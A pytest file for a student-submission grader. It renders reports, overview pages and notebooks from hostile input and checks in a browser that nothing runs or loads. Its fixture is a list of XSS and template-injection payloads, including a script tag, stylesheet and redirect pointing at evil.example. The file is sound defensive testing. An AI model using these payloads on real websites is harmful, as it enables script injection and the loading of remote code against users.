"""Pages full of what a student may have written to be read by a browser."""

import json
from pathlib import Path

import pytest
import samples
from playwright.sync_api import Browser
from visiting import DESKTOP, PHONE, visiting

from grader.report.converted import converted
from grader.report.executed import render_executed
from grader.report.index import render_index
from grader.report.page import render_report, report_context
from grader.report.rows import index_row_of

HOSTILE = {
    "everything": samples.HOSTILE,
    "script": "</script></style></title><script>alert(1)</script><script src=//evil.example/x.js>",
    "handlers": "<img src=x onerror=alert(1)><svg onload=alert(1)><details open ontoggle=alert(1)>",
    "addresses": "<a href='javascript:alert(1)'>x</a><iframe src='javascript:alert(1)'></iframe>",
    "attributes": "\" autofocus onfocus=alert(1) x=\"' onmouseover='alert(1)",
    "loading": "<link rel=stylesheet href='//evil.example/x.css'><base href='//evil.example/'>"
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>"
    "<object data='//evil.example/x'></object><video src='//evil.example/v' autoplay></video>",
    "imitation": "<style>*{display:none}</style><div style='position:fixed;inset:0'>100</div>",
    "mathml": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph>",
    "templates": "{{ 7*7 }}{% include 'page.css' %}{{ config }}${alert(1)}",
    "wide": "W" * 5_000 + "\u202e" + "宽" * 5_000,
    "broken": "\ud800\x00\x1b[31m\u2028<!--",
}
# What only a student's text could have brought into a page.
FOREIGN = (
    "iframe, object, embed, form, base, video, link[rel=stylesheet], [onerror], [onload], "
    "img:not([src^='data:image/'])"
)


@pytest.fixture(params=list(HOSTILE.values()), ids=list(HOSTILE))
def pages(request: pytest.FixtureRequest, tmp_path: Path) -> list[Path]:
    """The report and the overview of a submission whose every text is hostile."""
    graded = samples.hostile(request.param)
    report, index = tmp_path / "report.html", tmp_path / "index.html"
    report.write_bytes(render_report(report_context(graded, "zh")).encode())
    rows = [index_row_of(graded, request.param[:200])]
    index.write_bytes(render_index(rows, "zh").encode())
    outputs = [
        {"output_type": "display_data", "data": {kind: request.param}}
        for kind in ("text/html", "text/markdown", "image/svg+xml", "image/png", "text/plain")
    ]
    outputs.append({"output_type": "stream", "text": request.param})
    cells = [
        {"cell_type": "markdown", "source": request.param},
        {"cell_type": "code", "source": request.param, "outputs": outputs},
    ]
    notebook = tmp_path / "notebook.html"
    content = json.dumps({"cells": cells}).encode()
    page = render_executed(content, lambda given: converted(None, given), request.param, "zh")
    notebook.write_bytes(page.encode())
    return [report, index, notebook]


def test_nothing_runs_loads_or_asks(browser: Browser, pages: list[Path]) -> None:
    for file in pages:
        with visiting(browser, file, PHONE) as visit:
            page = visit.page
            page.locator("summary").evaluate_all("all => all.forEach(one => one.click())")
            page.mouse.move(200, 200)
            assert page.locator(FOREIGN).count() == 0
            assert page.locator("h1").first.is_visible()
            assert visit.overflow() <= 0
            assert visit.requests == []
            assert visit.complaints == []
            assert page.url == file.as_uri()


def test_what_a_student_wrote_puts_up_no_barrier(browser: Browser, pages: list[Path]) -> None:
    for file in pages:
        with visiting(browser, file, DESKTOP) as visit:
            visit.page.locator("summary").evaluate_all("all => all.forEach(one => one.click())")
            assert visit.barriers() == [], file.name
            visit.change(PHONE)
            assert visit.barriers() == [], file.name
